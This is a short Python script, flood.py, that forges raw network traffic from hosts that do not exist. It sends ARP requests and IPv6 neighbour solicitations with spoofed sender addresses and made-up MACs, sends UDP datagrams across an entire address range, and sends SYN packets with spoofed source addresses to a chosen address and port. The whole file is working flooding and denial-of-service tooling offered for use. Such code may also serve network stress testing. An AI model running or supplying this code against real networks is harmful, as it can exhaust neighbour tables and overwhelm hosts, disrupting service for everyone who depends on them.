"""Frames of hosts that there are not: flood.py DEVICE MAC arp|ndp ADDRESS NETWORK FRAMES asks in the name of so many hosts of a network for an
address; flood.py sweep NETWORK PACKETS sends so many of them a datagram each; flood.py syn NETWORK ADDRESS PORT PACKETS sends a SYN from each."""

import ipaddress
import itertools
import socket
import struct
import sys

PORT = 9
ETHER_ARP, ETHER_IPV6 = 0x0806, 0x86DD
ICMPV6, NEIGHBOUR_SOLICITATION = 58, 135


def hosts(network, number):
    """So many addresses of a network, again and again if it has fewer; not the first nine, which somebody may have."""
    network = ipaddress.ip_network(network)
    most = network.num_addresses - 11
    return [network[10 + index % most] for index in range(number)]


def mac(number):
    return struct.pack("!HI", 0x0200, number)


def arp(to, sender, own, target):
    words = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 1)
    return to + own + struct.pack("!H", ETHER_ARP) + words + own + sender.packed + bytes(6) + target.packed


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ndp(to, sender, own, target):
    def message(check):
        head = struct.pack("!BBHI", NEIGHBOUR_SOLICITATION, 0, check, 0)
        return head + target.packed + struct.pack("!BB", 1, 1) + own

    length = len(message(0))
    pseudo = sender.packed + target.packed + struct.pack("!II", length, ICMPV6)
    body = message(checksum(pseudo + message(0)))
    header = struct.pack("!IHBB", 6 << 28, length, ICMPV6, 255) + sender.packed + target.packed
    return to + own + struct.pack("!H", ETHER_IPV6) + header + body


def flood(device, to, kind, target, network, frames):
    write = {"arp": arp, "ndp": ndp}[kind]
    to, target = bytes.fromhex(to.replace(":", "")), ipaddress.ip_address(target)
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as link:
        link.bind((device, 0))
        for number, sender in zip(itertools.count(1), hosts(network, int(frames))):
            link.send(write(to, sender, mac(number), target))


def sweep(network, packets):
    family = socket.AF_INET6 if ":" in network else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as one:
        for host in hosts(network, int(packets)):
            try:
                one.sendto(b"anybody?", (str(host), PORT))
            except OSError:
                # The box has said of an earlier one that it is not there.
                pass


def syn(network, to, port, packets):
    to = ipaddress.ip_address(to)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as link:
        for number, sender in enumerate(hosts(network, int(packets))):
            pseudo = sender.packed + to.packed + struct.pack("!HH", socket.IPPROTO_TCP, 20)
            header = [1024 + number % 60000, int(port), number, 0, 5 << 12 | 2, 1000, 0, 0]
            header[6] = checksum(pseudo + struct.pack("!HHIIHHHH", *header))
            # The kernel fills in what is zero here.
            ip = struct.pack("!BBHHHBBH", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_TCP, 0) + sender.packed + to.packed
            link.sendto(ip + struct.pack("!HHIIHHHH", *header), (str(to), 0))


def main(what, *rest):
    {"sweep": sweep, "syn": syn}[what](*rest) if what in ("sweep", "syn") else flood(what, *rest)


main(*sys.argv[1:])
